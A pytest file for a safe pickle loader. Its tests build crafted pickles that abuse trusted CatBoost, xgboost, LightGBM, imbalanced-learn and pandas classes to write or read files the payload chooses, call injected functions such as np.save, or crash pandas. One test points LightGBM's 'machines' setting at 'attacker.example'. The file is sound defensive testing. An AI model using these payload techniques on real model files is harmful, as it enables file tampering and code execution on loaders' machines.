"""Attacks on the opt-in trust profiles, one test each.

Every payload abuses a class that a profile trusts. Each test first shows the harm under plain
pickle (or joblib) in a child process, with a harmless effect (a marker file written to a path
the file chose, a model file read from a path the file chose), then shows safeload refusing the
same bytes with the profile switched on, and ``scan`` agreeing (``tests/parity.py``). Payloads
for the native-blob rules are written opcode by opcode; those that need a whole fitted state
start from a real model whose state is then changed, as an attacker would.
"""

from __future__ import annotations

import functools
import pickle
import struct
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from tests.parity import load_unsigned

from harm import Child, plain
from redteam import write
from safeload import MalformedArtifactError, SafeloadError, UnsafeStateError, UntrustedTypeError

RNG = np.random.RandomState(0)
X = RNG.rand(40, 4)
Y = (X[:, 0] > 0.5).astype(int)


def _needs(module: str) -> Any:
    return pytest.importorskip(
        module, reason=f"{module} is not installed: its profile is not tested"
    )


# --- opcodes -------------------------------------------------------------------------------------


def _str(s: str) -> bytes:
    raw = s.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _bytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b  # BINBYTES


def _bytearray(b: bytes) -> bytes:
    return b"\x96" + struct.pack("<Q", len(b)) + b  # BYTEARRAY8 (protocol 5)


def _global(module: str, name: str) -> bytes:
    return _str(module) + _str(name) + b"\x93"  # STACK_GLOBAL


def _dict(items: dict[str, bytes]) -> bytes:
    body = b"".join(_str(k) + v for k, v in items.items())
    return b"}(" + body + b"u"  # EMPTY_DICT MARK ... SETITEMS


def _newobj(module: str, name: str) -> bytes:
    return _global(module, name) + b")\x81"  # EMPTY_TUPLE NEWOBJ


def _stream(body: bytes) -> bytes:
    return b"\x80\x05" + body + b"."


_NONE = b"N"


# --- plain pickle in a child process -------------------------------------------------------------


def _plain(path: Path, call: str, cwd: Path) -> Child:
    """Plain pickle + ``call`` in a child (``X``, ``Y`` as here), in ``cwd``: an exception
    from ``call`` is printed, the harm is what it left behind."""
    return plain(path, call, data=X.shape, catch=True, cwd=cwd, timeout=120)


# --- CatBoost ------------------------------------------------------------------------------------


def _catboost_blob() -> bytes:
    cb = _needs("catboost")
    model = cb.CatBoostClassifier(iterations=2, depth=2, verbose=0, allow_writing_files=False)
    model.fit(X, Y)
    blob: bytes = model.__getstate__()["__model"]
    return blob


def test_catboost_train_dir_chosen_by_the_file(tmp_path: Path) -> None:
    """CatBoost keeps every state key as a training option: ``train_dir`` makes ``fit`` write
    its logs under a path of the file's choosing (a write primitive, the first half of
    "write a module to the working directory, then import it")."""
    marker = tmp_path / "chosen_by_the_file"
    state = {
        "iterations": b"K\x02",  # BININT1 2
        "depth": b"K\x02",
        "verbose": b"K\x00",
        "train_dir": _str(str(marker)),
        "__model": _bytes(_catboost_blob()),
    }
    path = write(
        tmp_path, _stream(_newobj("catboost.core", "CatBoostClassifier") + _dict(state) + b"b")
    )
    _plain(path, "model.fit(X, Y)", tmp_path)
    assert marker.is_dir() and any(marker.iterdir()), "plain pickle + fit writes under train_dir"
    with pytest.raises(MalformedArtifactError, match="train_dir"):
        load_unsigned(path, profiles=["catboost"])


def test_catboost_blob_without_its_header(tmp_path: Path) -> None:
    """The blob goes to CatBoost's native loader in ``__setstate__``: anything but a CatBoost
    model (here the real model with its magic changed) is refused before that parser runs."""
    blob = b"XXXX" + _catboost_blob()[4:]
    body = _newobj("catboost.core", "CatBoostClassifier") + _dict({"__model": _bytes(blob)}) + b"b"
    path = write(tmp_path, _stream(body))
    with pytest.raises(MalformedArtifactError, match="header"):
        load_unsigned(path, profiles=["catboost"])


# --- xgboost -------------------------------------------------------------------------------------


def test_xgboost_booster_called_with_a_model_file(tmp_path: Path) -> None:
    """``xgboost.core.Booster(params, cache, model_file)`` reads a model from a path: a REDUCE
    on the trusted class makes the file read another file of its choosing (pickle itself never
    writes such a call; it makes a Booster with ``__new__`` and gives it its state)."""
    xgb = _needs("xgboost")
    other = tmp_path / "elsewhere.json"
    xgb.train({"max_depth": 1}, xgb.DMatrix(X, label=Y), num_boost_round=1).save_model(other)
    args = b"(" + _NONE + _NONE + _str(str(other)) + b"t"  # MARK ... TUPLE
    path = write(tmp_path, _stream(_global("xgboost.core", "Booster") + args + b"R"))
    child = _plain(path, "print('trees', model.num_boosted_rounds())", tmp_path)
    assert "trees 1" in child.stdout.splitlines(), child  # it read elsewhere.json
    with pytest.raises(MalformedArtifactError, match="reads model files"):
        load_unsigned(path, profiles=["xgboost"])


def _xgboost_blob() -> bytes:
    xgb = _needs("xgboost")
    booster = xgb.train({"max_depth": 1}, xgb.DMatrix(X, label=Y), num_boost_round=1)
    return bytes(booster.__getstate__()["handle"])


def test_xgboost_booster_state_forms(tmp_path: Path) -> None:
    """The Booster's one BUILD is checked before xgboost's parser sees the blob: a literal
    dict holding only ``handle``, a bytearray of UBJSON (``{``), given once, never skipped."""
    blob = _xgboost_blob()
    honest = _newobj("xgboost.core", "Booster") + _dict({"handle": _bytearray(blob)}) + b"b"
    assert load_unsigned(write(tmp_path, _stream(honest), "ok.pkl"), profiles=["xgboost"])
    cases = {
        "wrong header": (_dict({"handle": _bytearray(b"binf" + blob[1:])}) + b"b", "header"),
        "immutable bytes": (_dict({"handle": _bytes(blob)}) + b"b", "is bytes"),
        "text blob": (_dict({"handle": _str("{}")}) + b"b", "is str"),
        "no blob": (_dict({"handle": _NONE}) + b"b", "not a literal bytearray"),
        "extra key": (
            _dict({"handle": _bytearray(blob), "feature_names": _NONE}) + b"b",
            "never writes",
        ),
        "second build": (
            _dict({"handle": _bytearray(blob)}) + b"b" + _dict({"handle": _bytearray(blob)}) + b"b",
            "second BUILD",
        ),
        "no build": (b"", "never given its state"),
        "state made by a call": (
            _global("builtins", "dict") + b")R" + b"b",
            "not a literal dict",
        ),
    }
    for name, (tail, message) in cases.items():
        path = write(tmp_path, _stream(_newobj("xgboost.core", "Booster") + tail), f"{name}.pkl")
        with pytest.raises(SafeloadError, match=message):
            load_unsigned(path, profiles=["xgboost"])


def test_xgboost_state_shadows_predict(tmp_path: Path) -> None:
    """A wrapper whose state holds ``predict``: plain pickle calls the file's function with the
    caller's data (here numpy.save, writing a file named by the model)."""
    xgb = _needs("xgboost")
    model = xgb.XGBClassifier(n_estimators=2, max_depth=1).fit(X, Y)
    model.__dict__["predict"] = functools.partial(np.save, str(tmp_path / "marker.npy"))
    path = write(tmp_path, pickle.dumps(model, protocol=4))
    _plain(path, "model.predict(X)", tmp_path)
    assert (tmp_path / "marker.npy").exists()
    with pytest.raises(UntrustedTypeError, match="numpy.save"):
        load_unsigned(path, profiles=["xgboost"])


def test_xgboost_objective_is_a_stored_callable(tmp_path: Path) -> None:
    """A Python objective is called by ``fit`` with the labels and predictions."""
    xgb = _needs("xgboost")
    model = xgb.XGBClassifier(n_estimators=2, max_depth=1).fit(X, Y)
    model.objective = functools.partial(np.save, str(tmp_path / "objective.npy"))
    path = write(tmp_path, pickle.dumps(model, protocol=4))
    _plain(path, "model.fit(X, Y)", tmp_path)
    assert (tmp_path / "objective.npy").exists()
    with pytest.raises(UntrustedTypeError, match="numpy.save"):
        load_unsigned(path, profiles=["xgboost"])


def test_xgboost_callbacks_must_be_none(tmp_path: Path) -> None:
    """``callbacks`` hold objects whose hooks fit calls; a loaded model keeps None (here the
    callback is a list of an allowed estimator, so only the row refuses it)."""
    xgb = _needs("xgboost")
    from sklearn.linear_model import LinearRegression

    model = xgb.XGBRegressor(n_estimators=2, max_depth=1).fit(X, X[:, 0])
    model.callbacks = [LinearRegression()]
    path = write(tmp_path, pickle.dumps(model, protocol=4))
    with pytest.raises(UnsafeStateError, match="callbacks"):
        load_unsigned(path, profiles=["xgboost"])


# --- LightGBM ------------------------------------------------------------------------------------


def _lightgbm_classifier() -> Any:
    lgb = _needs("lightgbm")
    return lgb.LGBMClassifier(n_estimators=2, num_leaves=3, verbose=-1).fit(X, Y)


def test_lightgbm_parameters_that_name_files(tmp_path: Path) -> None:
    """LightGBM reads ``forcedsplits_filename`` (and writes, or opens sockets for, the other
    listed parameters) when a model is refit or trained again: a file may not set them, in the
    wrapper's parameters or in the Booster's."""
    secret = tmp_path / "secret.json"
    secret.write_text('{"feature": 0, "threshold": 0.5}')
    model = _lightgbm_classifier()
    model._other_params = {"forcedsplits_filename": str(secret)}
    model.forcedsplits_filename = str(secret)
    path = write(tmp_path, pickle.dumps(model, protocol=4), "wrapper.pkl")
    with pytest.raises(UnsafeStateError, match="forcedsplits_filename"):
        load_unsigned(path, profiles=["lightgbm"])
    model = _lightgbm_classifier()
    model._Booster.params["machines"] = "attacker.example:12400"
    path = write(tmp_path, pickle.dumps(model, protocol=4), "booster.pkl")
    with pytest.raises(UnsafeStateError, match="machines"):
        load_unsigned(path, profiles=["lightgbm"])


def test_lightgbm_model_text_is_checked_before_the_parser(tmp_path: Path) -> None:
    """The model text goes to ``LGBM_BoosterLoadModelFromString``: not text, no ``tree``
    header, or a key LightGBM never writes (``handle`` is read as the model too) is refused."""
    lgb = _needs("lightgbm")
    booster = lgb.train({"num_leaves": 3, "verbose": -1}, lgb.Dataset(X, label=Y), 1)
    text = booster.model_to_string()
    cases = {
        "bytes": ({"_handle": _bytes(text.encode())}, "is bytes"),
        "no header": ({"_handle": _str("version=v4\n" + text)}, "header"),
        "other key": ({"_handle": _str(text), "handle": _str(text)}, "never writes"),
    }
    for name, (state, message) in cases.items():
        body = _newobj("lightgbm.basic", "Booster") + _dict(state) + b"b"
        path = write(tmp_path, _stream(body), f"{name}.pkl")
        with pytest.raises(MalformedArtifactError, match=message):
            load_unsigned(path, profiles=["lightgbm"])


# --- imbalanced-learn ----------------------------------------------------------------------------


def test_imblearn_pipeline_memory_writes_a_cache(tmp_path: Path) -> None:
    """scikit-learn's Pipeline row (``memory`` must be None) applies to imblearn's Pipeline:
    plain pickle + ``fit`` writes a joblib cache under the path the file chose."""
    _needs("imblearn")
    from imblearn.over_sampling import RandomOverSampler
    from imblearn.pipeline import Pipeline
    from sklearn.linear_model import LogisticRegression

    model = Pipeline([("s", RandomOverSampler(random_state=0)), ("c", LogisticRegression())])
    model.fit(X, Y)
    cache = tmp_path / "cache_chosen_by_the_file"
    model.memory = str(cache)
    path = write(tmp_path, pickle.dumps(model, protocol=4))
    _plain(path, "model.fit(X, Y)", tmp_path)
    assert cache.is_dir()
    with pytest.raises(UnsafeStateError, match="memory"):
        load_unsigned(path, profiles=["imblearn"])


def test_imblearn_callable_sampling_strategy(tmp_path: Path) -> None:
    """imbalanced-learn calls a callable ``sampling_strategy`` with the labels in fit."""
    _needs("imblearn")
    from imblearn.under_sampling import RandomUnderSampler

    sampler = RandomUnderSampler(random_state=0)
    sampler.fit_resample(X, Y)
    sampler.sampling_strategy = functools.partial(np.save, str(tmp_path / "strategy.npy"))
    path = write(tmp_path, pickle.dumps(sampler, protocol=4))
    _plain(path, "model.fit_resample(X, Y)", tmp_path)
    assert (tmp_path / "strategy.npy").exists()
    with pytest.raises(UntrustedTypeError, match="numpy.save"):
        load_unsigned(path, profiles=["imblearn"])
    # an allowed function there is refused by the row, not by its name
    sampler.sampling_strategy = np.log1p
    path = write(tmp_path, pickle.dumps(sampler, protocol=4), "allowed.pkl")
    with pytest.raises(UnsafeStateError, match="sampling_strategy"):
        load_unsigned(path, profiles=["imblearn"])


def test_imblearn_sampler_slot_holds_a_non_estimator(tmp_path: Path) -> None:
    """A balanced ensemble calls its sampler's methods: the slot holds estimators only."""
    _needs("imblearn")
    from imblearn.ensemble import BalancedBaggingClassifier

    model = BalancedBaggingClassifier(n_estimators=2, random_state=0).fit(X, Y)
    model.sampler_ = "fit_resample"
    path = write(tmp_path, pickle.dumps(model, protocol=4))
    with pytest.raises(UnsafeStateError, match="sampler_"):
        load_unsigned(path, profiles=["imblearn"])


def test_profile_rows_apply_without_the_profile(tmp_path: Path) -> None:
    """Trusting a profile's class by hand (``trusted=``) does not skip its use-time rows."""
    _needs("imblearn")
    from imblearn.under_sampling import RandomUnderSampler

    sampler = RandomUnderSampler(random_state=0)
    sampler.sampling_strategy = np.log1p
    path = write(tmp_path, pickle.dumps(sampler, protocol=4))
    name = "imblearn.under_sampling._prototype_selection._random_under_sampler.RandomUnderSampler"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with pytest.raises(UnsafeStateError, match="sampling_strategy"):
            load_unsigned(path, trusted=[name])


# --- pandas: block placements checked before the manager is built ------------------------------


def test_pandas_block_placement_past_the_columns(tmp_path: Path) -> None:
    """pandas' BlockManager takes its blocks' column placements from the file and its compiled
    code indexes with them unchecked: plain pickle loads this frame, and printing it crashes
    the process. The pandas profile's BlockManager stand-in refuses the placement before pandas
    builds anything (with category_encoders too, which switches pandas on), and scan agrees."""
    pd = _needs("pandas")
    frame = pd.DataFrame({"a": [1.0, 2.0], "b": [1.5, 2.5], "c": [1, 2], "d": [3.0, 4.0]})
    honest = pickle.dumps(frame, protocol=4)
    placement = struct.pack("<qqq", 0, 1, 3)  # the float block's columns
    assert honest.count(placement) == 1
    path = write(tmp_path, honest.replace(placement, struct.pack("<qqq", 0, 1, 10**8)))
    child = _plain(path, "print(repr(model))", tmp_path)
    assert child.crashed, f"plain pickle + repr crashes on the crafted placement: {child}"
    for profiles in ([], ["pandas"], ["category_encoders"]):
        with pytest.raises(SafeloadError):
            load_unsigned(path, profiles=profiles)
